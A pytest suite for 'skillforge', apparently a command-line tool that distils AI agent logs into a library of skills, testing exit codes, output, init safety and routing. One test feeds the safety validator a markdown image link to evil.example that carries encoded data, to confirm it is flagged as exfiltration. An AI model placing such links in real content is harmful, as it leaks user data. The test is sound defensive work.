"""A new user's first hour (issue: a fresh machine): declared imports, unwrapped output, exit codes
command by command, the review-branch loop after distill, re-runs from another path, malformed URLs,
help text, guessed outcomes. Each test failed on the code before the fix it came with."""

from __future__ import annotations

import ast
import importlib.metadata
import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import git
import pytest

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples" / "logs"
ROUTE_LIBRARY = Path(__file__).parent / "fixtures" / "route" / "library"
FIXTURES = Path(__file__).parent / "fixtures"
ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


def _declared() -> set[str]:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    reqs = list(project["dependencies"])
    for name in ("mcp", "ray"):  # the runtime extras (dev is for the tests)
        reqs += project["optional-dependencies"][name]
    return {re.match(r"[A-Za-z0-9._-]+", r).group(0).lower().replace("_", "-") for r in reqs}  # type: ignore[union-attr]


def _imports(path: Path) -> set[str]:
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found.add(node.module.split(".")[0])
    return found


def test_every_module_the_package_imports_is_a_declared_dependency() -> None:
    """typer >= 0.29 no longer installs click: an import that only works through another package's
    dependencies breaks a fresh install (the test extras hid it before)."""
    providers = importlib.metadata.packages_distributions()
    declared = _declared()
    missing = {}
    for path in (ROOT / "skillforge").rglob("*.py"):
        for module in _imports(path):
            if module in sys.stdlib_module_names or module in ("skillforge", "__future__"):
                continue
            dists = {d.lower().replace("_", "-") for d in providers.get(module, [])}
            if not dists & declared:
                missing[module] = str(path.relative_to(ROOT))
    assert not missing, f"imported but not declared in pyproject.toml: {missing}"


def test_the_distribution_name_is_not_the_unrelated_skillforge_on_the_index() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert project["name"] == "skillforge-distill"
    assert project["scripts"] == {"skillforge": "skillforge.cli:main"}  # the command keeps its name
    texts = [p.read_text() for p in [ROOT / "README.md", *(ROOT / "docs").rglob("*.md")]]
    assert not any(re.search(r"pip install '?skillforge\[", t) for t in texts)


# ------------------------------------------------------------------------------------ output


def test_a_long_path_is_not_wrapped_when_stderr_is_not_a_terminal(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    deep = tmp_path / ("a-rather-long-folder-name-" * 4) / "nope.jsonl"
    result = cli("ingest", str(deep))
    assert result.code == 1
    assert f"{deep}: no such file or folder" in result.err  # one line, whole


def test_a_long_path_is_not_split_in_a_narrow_terminal(tmp_path: Path) -> None:
    deep = tmp_path / ("a-rather-long-folder-name-" * 4) / "nope.jsonl"
    env = {**os.environ, "FORCE_COLOR": "1", "TTY_COMPATIBLE": "1", "COLUMNS": "40"}
    proc = subprocess.run(
        [sys.executable, "-m", "skillforge", "ingest", str(deep)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 1
    assert str(deep) in ANSI.sub("", proc.stderr)  # the terminal folds it; no newline inside it


def test_skipped_inputs_are_one_line_per_reason_and_each_under_verbose(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    for i in range(5):
        (logs / f"notes-{i}.json").write_text(json.dumps({"note": i}))
    lib = tmp_path / "lib"
    result = cli("distill", str(logs), "--library", str(lib), "--init")
    assert result.code == 3  # partial, as ingest says for the same inputs
    assert cli("ingest", str(logs)).code == 3
    skipped = [line for line in result.err.splitlines() if "skipped" in line and "notes-" in line]
    assert len(skipped) == 1 and "5 files are not agent logs" in skipped[0]
    verbose = cli("-v", "ingest", str(logs))
    assert verbose.code == 3


def test_the_labels_file_is_not_an_input(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    labels = logs / "labels.json"
    shutil.copy(ROOT / "examples" / "labels.json", labels)
    result = cli(
        "distill", str(logs), "--labels", str(labels), "--library", str(tmp_path / "lib"), "--init", "--json"
    )
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["skipped_inputs"] == [] and "labels.json" not in result.err


def test_guessed_outcomes_are_marked_in_the_table_and_json(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("ingest", str(EXAMPLES), "--json")
    records = [json.loads(line) for line in result.out.splitlines()]
    guessed = [r for r in records if r["outcome_guessed"]]
    assert guessed and all(r["outcome_source"] == "tests" for r in guessed)
    assert all(not r["outcome_guessed"] for r in records if r["outcome"] == "unknown")
    assert "guessed" in result.err  # the table on stderr says which counts are guesses
    labelled = cli("ingest", str(EXAMPLES), "--labels", str(ROOT / "examples" / "labels.json"), "--json")
    assert not any(json.loads(line)["outcome_guessed"] for line in labelled.out.splitlines())


# --------------------------------------------------------------------------------- exit codes


@pytest.mark.parametrize(
    "args",
    [
        ["route", "fix it", "--format", "yaml"],
        ["route", "fix it", "--json", "--format", "xml"],
        ["validate", ".", "--format", "sarif"],
        ["validate", ".", "--json", "--format", "github"],
        ["ingest", ".", "--format", "no-such-agent"],
        ["feedback", "some-skill", "--outcome", "maybe"],
        ["install", "claude", "--project", "--user"],
    ],
    ids=[
        "route-format",
        "route-json-xml",
        "validate-format",
        "validate-json-github",
        "ingest-format",
        "feedback-outcome",
        "install-project-user",
    ],
)
def test_bad_option_values_are_usage_errors(cli, args: list[str], tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    shutil.copytree(ROUTE_LIBRARY, lib)
    monkeypatch.chdir(lib)
    result = cli(*args)
    assert result.code == 2, (result.out, result.err)
    assert "Traceback" not in result.err


def test_distill_on_an_empty_folder_is_an_error(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "empty").mkdir()
    result = cli("distill", str(tmp_path / "empty"), "--library", str(tmp_path / "lib"), "--init")
    assert result.code == 1 and "no agent logs found" in result.err
    assert not (tmp_path / "lib").exists()  # --init made nothing that outlives the failed run


def test_distill_init_with_a_wrong_log_path_leaves_no_library(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("distill", str(tmp_path / "nope"), "--library", str(tmp_path / "lib"), "--init")
    assert result.code == 1 and "no such file or folder" in result.err
    assert not (tmp_path / "lib").exists()


def test_an_existing_library_is_never_removed_by_a_failed_run(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    assert cli("distill", str(EXAMPLES), "--library", str(lib), "--init").code == 0
    (tmp_path / "empty").mkdir()
    assert cli("distill", str(tmp_path / "empty"), "--library", str(lib), "--init").code == 1
    assert (lib / ".git").is_dir() and (lib / "skillforge.toml").is_file()


# -------------------------------------------------------------------- after distill: the loop


def test_rerun_from_another_path_is_already_done_in_text_and_json(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    first = cli("distill", str(EXAMPLES), "--library", str(lib), "--init", "--json")
    assert first.code == 0 and json.loads(first.out)["status"] == "committed"
    moved = tmp_path / "elsewhere" / "logs"
    shutil.copytree(EXAMPLES, moved)
    monkeypatch.setenv("SKILLFORGE_HOME", str(tmp_path / "other-cache"))
    again = cli("distill", str(moved), "--library", str(lib), "--json")
    assert again.code == 0, again.err
    data = json.loads(again.out)
    assert data["status"] == "already_done" and data["branch"] == json.loads(first.out)["branch"]
    text = cli("distill", str(moved), "--library", str(lib))
    assert text.code == 0 and "already done" in text.err and "added" not in text.out


def test_distill_says_where_the_skills_are_and_how_to_review_merge_and_publish(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    result = cli("distill", str(EXAMPLES), "--library", str(lib), "--init")
    assert result.code == 0
    branch = (
        git.Repo(lib)
        .heads[
            [h.name for h in git.Repo(lib).heads].index(
                next(h.name for h in git.Repo(lib).heads if h.name.startswith("skillforge/"))
            )
        ]
        .name
    )
    assert f"review branch {branch}" in result.out
    assert f"skillforge diff {branch} --library {lib}" in result.out
    assert f"git -C {lib} merge {branch}" in result.out
    assert "remote add origin" in result.out and "git push" not in result.out  # no remote yet
    git.Repo(lib).create_remote("origin", str(tmp_path / "remote.git"))
    shutil.copytree(EXAMPLES, tmp_path / "more")
    (tmp_path / "more" / "interchange" / "ledgerkit-runs.jsonl").unlink()
    with_remote = cli("distill", str(tmp_path / "more"), "--library", str(lib), "--json")
    steps = [s["command"] for s in json.loads(with_remote.out)["next_steps"]]
    assert any(s.startswith(f"git -C {lib} push -u origin skillforge/") for s in steps)
    assert f"git -C {lib} push -u origin main" in steps  # an empty remote needs the base first
    assert any(s.startswith(f"cd {lib} && gh pr create --base main --head skillforge/") for s in steps)


def test_the_merge_command_it_prints_makes_route_find_the_skills(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    data = json.loads(cli("distill", str(EXAMPLES), "--library", str(lib), "--init", "--json").out)
    before = cli("route", "pytest is not found on PATH", "--library", str(lib))
    assert "review branch" in before.err and data["branch"] in before.err  # says why nothing matched
    merge = next(s["command"] for s in data["next_steps"] if " merge " in s["command"])
    subprocess.run(merge, shell=True, check=True, capture_output=True)
    after = cli(
        "route",
        "run the ledgerkit tests: pytest command not found",
        "--library",
        str(lib),
        "--json",
        "--cwd",
        str(tmp_path),
    )  # not the checkout the tests run from: its remote names another repository
    assert json.loads(after.out)["matches"]


def test_route_outside_a_library_says_so(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "project").mkdir()
    result = cli("route", "fix the tests", "--library", str(tmp_path / "project"))
    assert result.code == 1 and "is not a skill library" in result.err


def test_route_from_the_folder_above_a_library_names_the_library(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The README's layout puts the library at ~/skills, so ~ has a skills/ folder: route from ~ said
    "No skill in the library matches" (exit 0), as if nothing fitted. It names the library instead."""
    lib = tmp_path / "skills"
    skill = lib / "skills" / "ledger-tests"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text(
        "---\nname: ledger-tests\ndescription: Run the tests. Use when testing.\n---\nx\n"
    )
    result = cli("route", "run the ledger tests", "--library", str(tmp_path))
    assert result.code == 1 and f"{tmp_path} is not a skill library, but {lib} is" in result.err
    assert f"--library {lib}" in result.err


def test_route_from_the_folder_above_a_new_library_names_the_library(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("init", str(tmp_path / "skills")).code == 0  # a new library: no skill yet
    result = cli("route", "run the tests", "--library", str(tmp_path))
    assert result.code == 1 and f"but {tmp_path / 'skills'} is" in result.err


def test_route_on_a_library_whose_skills_cannot_be_read_says_so(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    skill = tmp_path / "lib" / "skills" / "broken"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: [broken\n---\nx\n")
    result = cli("route", "fix the tests", "--library", str(tmp_path / "lib"))
    err = " ".join(result.err.split())
    assert result.code == 0 and "1 skill folder(s) could not be read" in err and "skillforge validate" in err


def test_route_on_a_library_without_skills_says_so(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "lib" / "skills").mkdir(parents=True)
    result = cli("route", "fix the tests", "--library", str(tmp_path / "lib"))
    assert result.code == 0 and "has no skills yet (no skill folder with a SKILL.md in it)" in result.err


# ------------------------------------------------------------------- malformed content


def _library_with_a_bad_url(tmp_path: Path) -> Path:
    lib = tmp_path / "lib"
    shutil.copytree(ROUTE_LIBRARY, lib)
    bad = lib / "skills" / "docs-lookup"
    bad.mkdir()
    (bad / "SKILL.md").write_text(
        "---\nname: docs-lookup\ndescription: Use when looking up a library's documentation index.\n---\n"
        "# Docs lookup\n\nFetch https://docs.[library].com/llms.txt?q=${QUERY} and then ![x](https://[::1/x.png?a=1)\n"
    )
    return lib


def test_a_url_python_refuses_is_a_finding_not_a_traceback(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = _library_with_a_bad_url(tmp_path)
    result = cli("validate", str(lib), "--json")
    assert result.code in (0, 4) and "Traceback" not in result.err
    data = json.loads(result.out)
    assert data["skills"] == len(list((lib / "skills").iterdir()))  # the rest was validated too


def test_route_and_the_hook_still_answer_with_such_a_skill_in_the_library(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = _library_with_a_bad_url(tmp_path)
    routed = cli(
        "route", "I rebased onto main and lost two commits, get them back", "--library", str(lib), "--json"
    )
    assert routed.code == 0 and json.loads(routed.out)["matches"]
    event = json.dumps(
        {
            "session_id": "s",
            "cwd": str(tmp_path),
            "hook_event_name": "UserPromptSubmit",
            "prompt": "I rebased onto main and lost two commits, get them back",
        }
    )
    hooked = cli("route", "--hook", "claude", "--library", str(lib), stdin=event)
    assert "git-rebase-recovery" in hooked.out


# ---------------------------------------------------------------------------- help and JSON


COMMANDS = [
    "ingest",
    "distill",
    "route",
    "validate",
    "init",
    "log",
    "diff",
    "feedback",
    "prune",
    "serve",
    "install",
    "config",
    "scan",
    "eval route",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_help_shows_no_python_type_names_or_escapes(cli, command: str) -> None:  # type: ignore[no-untyped-def]
    result = cli(*command.split(), "--help")
    assert result.code == 0
    assert not re.search(r"<(list|str|int|float|path|bool)[^>]*>", result.out), result.out
    assert "\\[" not in result.out


@pytest.mark.parametrize(
    "args",
    [
        ["validate", "{lib}", "--json"],
        ["config", "--library", "{lib}", "--json"],
        ["route", "lost commits after a rebase", "--library", "{lib}", "--json"],
        ["log", "--library", "{lib}", "--json"],
        ["init", "{lib}", "--json"],
    ],
    ids=["validate", "config", "route", "log", "init"],
)
def test_every_reporting_command_has_a_status_in_its_json(cli, args: list[str], tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lib = tmp_path / "lib"
    shutil.copytree(ROUTE_LIBRARY, lib)
    assert cli("init", str(lib)).code == 0
    result = cli(*[a.format(lib=lib) for a in args])
    assert result.code in (0, 4), result.err
    assert json.loads(result.out)["status"] in ("ok", "findings", "abstained", "already_done")


def test_a_rule_that_fails_on_one_skill_withholds_that_skill_and_routes_the_rest(  # type: ignore[no-untyped-def]
    cli, tmp_path: Path, monkeypatch
) -> None:
    """Whatever content no parser foresaw: a finding on that skill, never a crash of the library."""
    from skillforge.skills import validate
    from skillforge.skills.rules import safety

    lib = _library_with_a_bad_url(tmp_path)
    real = safety.check_text

    def fragile(text: str, where: str, allowed_hosts=None):  # type: ignore[no-untyped-def]
        if "docs.[library]" in text:
            raise ValueError("Invalid IPv6 URL")
        return real(text, where, allowed_hosts)

    monkeypatch.setattr(safety, "check_text", fragile)
    monkeypatch.setattr(validate, "check_text", fragile)
    checked = json.loads(cli("validate", str(lib), "--json").out)
    assert [f["rule"] for f in checked["findings"] if "docs-lookup" in f["file"]] == ["SF099"]
    assert checked["skills"] == len(list((lib / "skills").iterdir()))
    routed = cli(
        "route", "I rebased onto main and lost two commits, get them back", "--library", str(lib), "--json"
    )
    names = [m["name"] for m in json.loads(routed.out)["matches"]]
    assert "git-rebase-recovery" in names and "docs-lookup" not in names


@pytest.mark.parametrize(
    "command",
    [
        ["log"],
        ["diff"],
        ["prune"],
        ["feedback", "x", "--outcome", "success"],
        ["install", "claude", "--dry-run"],
    ],
    ids=["log", "diff", "prune", "feedback", "install"],
)
def test_library_commands_outside_a_library_are_errors(cli, command: list[str], tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "project").mkdir()
    result = cli(*command, "--library", str(tmp_path / "project"))
    assert result.code == 1 and "not a skill library" in result.err


def test_scan_and_validate_exit_4_on_findings(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    log = tmp_path / "s.jsonl"
    log.write_text('{"cmd": "export GITHUB_TOKEN=ghp_' + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + '"}\n')
    assert cli("scan", str(log)).code == 4
    skill = tmp_path / "skills" / "Bad_Name"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: Bad_Name\ndescription: x\n---\nbody\n")
    assert cli("validate", str(tmp_path)).code == 4


def test_a_failed_init_run_never_touches_a_folder_that_was_there(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "empty").mkdir()
    kept = tmp_path / "kept"
    kept.mkdir()  # an empty folder of the user's: not removed
    repo = tmp_path / "repo"
    git.Repo.init(repo, initial_branch="main")
    (repo / "notes.txt").write_text("mine\n")
    before = sorted(p.name for p in repo.iterdir())
    for library in (kept, repo):
        assert cli("distill", str(tmp_path / "empty"), "--library", str(library), "--init").code == 1
    assert kept.is_dir() and not any(kept.iterdir())
    assert sorted(p.name for p in repo.iterdir()) == before  # no init files, no commit on the user's branch
    assert not git.Repo(repo).head.is_valid()
    nested = tmp_path / "new" / "a" / "b"
    assert cli("distill", str(tmp_path / "empty"), "--library", str(nested), "--init").code == 1
    assert not (tmp_path / "new").exists()  # the parents it would have made are not left either


def _snapshot(folder: Path, skip: str = "") -> dict[str, bytes | None]:
    """Every path under ``folder`` (files with their bytes, folders as None), ``skip`` left out."""
    return {
        p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() else None)
        for p in sorted(folder.rglob("*"))
        if not (skip and p.relative_to(folder).parts[0] == skip)
    }


def test_a_failed_init_on_a_folder_of_uncommitted_skills_leaves_it_byte_identical(
    cli, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """distill --init on a folder outside git holding the user's skills made a git repository,
    committed its own files, then refused (exit 1) over the uncommitted skills, leaving all of it."""
    folder = tmp_path / "mine"
    (folder / "skills" / "foo").mkdir(parents=True)
    (folder / "skills" / "foo" / "SKILL.md").write_text(
        "---\nname: foo\ndescription: Does foo. Use when foo.\n---\n# Foo\n"
    )
    (folder / "notes.txt").write_text("mine\n")
    before = _snapshot(folder)
    preview = cli("distill", str(EXAMPLES), "--library", str(folder), "--init", "--dry-run")
    assert preview.code == 1 and "--init created nothing" in " ".join(preview.err.split())  # as the run
    result = cli("distill", str(EXAMPLES), "--library", str(folder), "--init")
    assert result.code == 1 and _snapshot(folder) == before  # no .git, no init files, nothing changed
    err = " ".join(result.err.split())
    assert "skills/foo/SKILL.md" in err and "--init created nothing" in err
    assert f"skillforge init {folder}" in err and "commit" in err and "Traceback" not in err
    # the hint works: init, commit the skills, distill again
    assert cli("init", str(folder)).code == 0
    git.Repo(folder).git.add("skills")
    git.Repo(folder).git.commit("-m", "Add my skills")
    assert cli("distill", str(EXAMPLES), "--library", str(folder), "--init").code == 0


def test_a_failed_init_in_a_repository_with_uncommitted_changes_commits_nothing(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """In a repository's sub-folder with a changed tracked file, --init committed its files on the
    user's branch before refusing the uncommitted change."""
    repo = git.Repo.init(tmp_path / "mono", initial_branch="main")
    tools = tmp_path / "mono" / "tools"
    tools.mkdir()
    (tools / "x.py").write_text("a = 1\n")
    repo.git.add("tools")
    repo.git.commit("-m", "tools")
    (tools / "x.py").write_text("a = 2\n")
    head, before = repo.head.commit.hexsha, _snapshot(tmp_path / "mono", skip=".git")
    result = cli("distill", str(EXAMPLES), "--library", str(tools), "--init")
    assert result.code == 1 and repo.head.commit.hexsha == head
    assert _snapshot(tmp_path / "mono", skip=".git") == before
    err = " ".join(result.err.split())
    assert "tools/x.py" in err and "--init created nothing" in err


def test_a_table_too_wide_for_the_terminal_keeps_every_path_whole(tmp_path: Path) -> None:
    lib = tmp_path / "lib"
    shutil.copytree(ROUTE_LIBRARY, lib)
    project = tmp_path / ("a-project-with-a-long-name-" * 3)
    project.mkdir()
    env = {**os.environ, "FORCE_COLOR": "1", "TTY_COMPATIBLE": "1", "COLUMNS": "50"}
    proc = subprocess.run(
        [sys.executable, "-m", "skillforge", "install", "claude", "--library", str(lib), "--dry-run"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    shown = ANSI.sub("", proc.stdout)
    assert f"{project}/.mcp.json" in shown and "…" not in shown  # whole, on one line, not cut


def test_the_review_note_finds_the_branches_of_a_library_in_a_sub_folder(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    repo = tmp_path / "mono"
    git.Repo.init(repo, initial_branch="main")
    (repo / "README.md").write_text("repo\n")
    git.Repo(repo).index.add(["README.md"])
    git.Repo(repo).index.commit("first")
    lib = repo / "team skills"
    data = json.loads(cli("distill", str(EXAMPLES), "--library", str(lib), "--init", "--json").out)
    routed = cli("route", "pytest is not found", "--library", str(lib))
    assert data["branch"] in routed.err and f"git -C '{lib}' merge {data['branch']}" in routed.err


def test_a_malformed_image_url_still_counts_as_exfiltration(tmp_path: Path) -> None:
    """Splitting by hand where urlsplit refuses: the data in the query is still seen (fail closed)."""
    from skillforge.skills.validate import check_text

    query = "/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)\n"
    malformed = check_text("![status](https://evil.example]" + query, "SKILL.md")
    wellformed = check_text("![status](https://evil.example" + query, "SKILL.md")
    assert {f.rule for f in malformed if f.unsafe} >= {"SF608"}  # judged like the well-formed URL
    assert {(f.rule, f.severity) for f in malformed} <= {(f.rule, f.severity) for f in wellformed}
    hosts = [f.message for f in check_text("see https://docs.[library].com/llms.txt\n", "SKILL.md")]
    assert all("''" not in m for m in hosts)  # the host is named, not an empty string


@pytest.mark.parametrize(
    "args",
    [
        ["install", "bogus"],
        ["ingest", "--from", "bogus"],
        ["distill", "--from", "bogus"],
        ["ingest"],
        ["distill"],
    ],
    ids=["install-agent", "ingest-from", "distill-from", "ingest-nothing", "distill-nothing"],
)
def test_bad_agents_and_missing_inputs_are_usage_errors(cli, args: list[str], tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli(*args, "--library", str(tmp_path)) if args[0] != "ingest" else cli(*args)
    assert result.code == 2, result.err


def test_each_skipped_file_and_line_is_counted_once(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    run = logs / "interchange" / "ledgerkit-runs.jsonl"
    run.write_text(run.read_text() + "not json\n" * 5)
    result = cli("ingest", str(logs))
    lines = [line for line in result.err.splitlines() if "ledgerkit-runs.jsonl" in line]
    assert len(lines) == 1 and "and 4 more like it in that file" in lines[0]
    assert "5 files" not in result.err


def test_every_command_json_is_one_document_with_a_status(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """One renderer for machines: each command's --json is one JSON document whose first key is status."""
    lib = tmp_path / "lib"
    first = cli("distill", str(EXAMPLES), "--library", str(lib), "--init", "--json")
    branch = json.loads(first.out)["branch"]
    subprocess.run(["git", "-C", str(lib), "merge", "-q", branch], check=True, capture_output=True)
    queries = tmp_path / "q.jsonl"
    queries.write_text(
        json.dumps({"query": "run the ledgerkit tests", "expected": ["ledgerkit-workflow"]}) + "\n"
    )
    log = tmp_path / "s.jsonl"
    log.write_text('{"x": 1}\n')
    monkeypatch.chdir(tmp_path)
    commands = [
        ["distill", str(EXAMPLES), "--library", str(lib)],
        ["validate", str(lib)],
        ["config", "--library", str(lib)],
        ["route", "run the ledgerkit tests", "--library", str(lib)],
        ["log", "--library", str(lib)],
        ["diff", branch, "--library", str(lib)],
        ["init", str(lib)],
        ["scan", str(log)],
        ["feedback", "ledgerkit-workflow", "--outcome", "success", "--library", str(lib)],
        ["prune", "--library", str(lib), "--dry-run"],
        ["install", "claude", "--library", str(lib), "--dry-run"],
        ["eval", "route", "--queries", str(queries), "--library", str(lib)],
    ]
    for command in commands:
        result = cli(*command, "--json")
        data = json.loads(result.out)
        assert isinstance(data, dict) and next(iter(data)) == "status", (command, result.out[:200])


def test_a_folder_of_symlinks_to_logs_elsewhere_says_they_were_not_followed(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Symlinks out of the folder named are not followed (a log folder must not lead the walk anywhere
    on the disk); a folder holding only such links said "no agent logs found", nothing about the links
    (an independent user linked real logs into a scratch folder and met it)."""
    log = next(p for p in (FIXTURES / "ingest" / "mini").rglob("*") if p.is_file())
    links = tmp_path / "links"
    links.mkdir()
    (links / log.name).symlink_to(log)
    for command in (
        ("ingest", str(links)),
        ("distill", str(links), "--library", str(tmp_path / "lib"), "--init"),
    ):
        result = cli(*command)
        said = " ".join(result.err.split())
        assert result.code == 1 and "1 symlink(s) out of the folder named, not followed" in said, said
        assert "--from claude" in said  # the general advice too: the links may not be the logs wanted
    (links / "own.json").write_bytes(log.read_bytes())  # a log of its own beside the link: read, link counted
    result = cli("ingest", str(links))
    said = " ".join(result.err.split()) + " ".join(result.out.split())
    assert result.code == 0 and "1 symlink(s) out of the folder named, not followed" in said, said


def test_a_lone_file_that_is_no_log_is_named_once_with_why(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """One file in the logs that is not a log: distill and ingest both exit 3 (partial), and the warning
    names the file once and says why, not '<file>: 1 file(s) not agent logs were skipped (<file>)'."""
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    notes = logs / "notes.jsonl"
    notes.write_text(json.dumps({"note": 1}) + "\n")
    result = cli("distill", str(logs), "--library", str(tmp_path / "lib"), "--init")
    ingest = cli("ingest", str(logs))
    assert result.code == ingest.code == 3
    (line,) = [x for x in result.err.splitlines() if "notes" in x]
    assert (
        line
        == f"warning: skipped: {notes}: not a known agent log format (see docs/formats/README.md; `skillforge ingest --format FORMAT FILE` reads it as one)"
    )
    (line,) = [x for x in ingest.err.splitlines() if "notes" in x]
    assert (
        line
        == f"warning: {notes}: not a known agent log format (see docs/formats/README.md; `skillforge ingest --format FORMAT FILE` reads it as one)"
    )


def test_swe_agents_predictions_beside_its_trajectories_are_passed_over(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """SWE-agent writes all_preds.jsonl (SWE-bench predictions) beside its trajectories: not a log and no
    bad input, so neither ingest nor distill is partial on it (both exited 3)."""
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    pred = {
        "model_name_or_path": "gpt4",
        "instance_id": "acme__ledgerkit-101",
        "model_patch": "diff --git a/x b/x\n",
    }
    (logs / "mini-swe-agent" / "all_preds.jsonl").write_text(json.dumps(pred) + "\n")
    result = cli("distill", str(logs), "--library", str(tmp_path / "lib"), "--init", "--json")
    ingest = cli("ingest", str(logs))
    assert result.code == ingest.code == 0
    assert not json.loads(result.out)["partial"]
    assert "1 SWE-bench predictions" in " ".join(ingest.err.split())


def test_predictions_whose_patch_comes_before_the_instance_id_are_passed_over(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A predictions record may hold its patch (kilobytes) before its instance id: it is still one."""
    patch = "diff --git a/x b/x\n" + "+ a line of the patch\n" * 400
    pred = {"model_patch": patch, "model_name_or_path": "gpt4", "instance_id": "acme__ledgerkit-101"}
    logs = tmp_path / "logs"
    shutil.copytree(EXAMPLES, logs)
    (logs / "mini-swe-agent" / "preds.jsonl").write_text(json.dumps(pred) + "\n")
    ingest = cli("ingest", str(logs))
    assert ingest.code == 0 and "1 SWE-bench predictions" in " ".join(ingest.err.split()), ingest.err
